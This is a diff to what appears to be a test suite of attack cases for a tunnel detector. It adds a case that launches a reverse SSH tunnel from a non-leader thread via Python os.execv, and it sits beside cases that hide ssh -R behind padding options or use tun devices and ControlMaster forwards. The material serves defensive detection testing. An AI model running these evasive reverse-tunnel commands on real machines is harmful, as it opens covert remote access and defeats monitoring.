@@ -73,6 +73,10 @@ ATTACKS = [
     _a("ssh -R hidden after 70 options", "evasion",
        "ssh $(for i in $(seq 70); do printf -- '-o Compression=no '; done) $SSH -N -R 2411:127.0.0.1:22 root@$H",
        REVERSE_SSH + ("Tunnel program's command line too long to read",), reverse_port=2411, cut=True),
+    _a("ssh -R exec'd from a thread other than the leader", "evasion",
+       "python3 -c \"import os, shlex, threading; threading.Thread(target=os.execv, args=('/usr/bin/ssh', "
+       "['ssh', *shlex.split(os.environ['SSH']), '-N', '-R', '2414:127.0.0.1:22', 'root@' + os.environ['H']])).start()"
+       "\"", REVERSE_SSH, reverse_port=2414, cut=True),
     _a("ssh -w tun device", "tunnel", "ssh $SSH -w any:any -N root@$H", ("SSH tun device tunnel",), cut=True),
     _a("ControlMaster forward added later", "tunnel",
        "ssh $SSH -S $W/ctl -O forward -R 2412:127.0.0.1:22 root@$H", REVERSE_SSH, reverse_port=2412, cut=True),
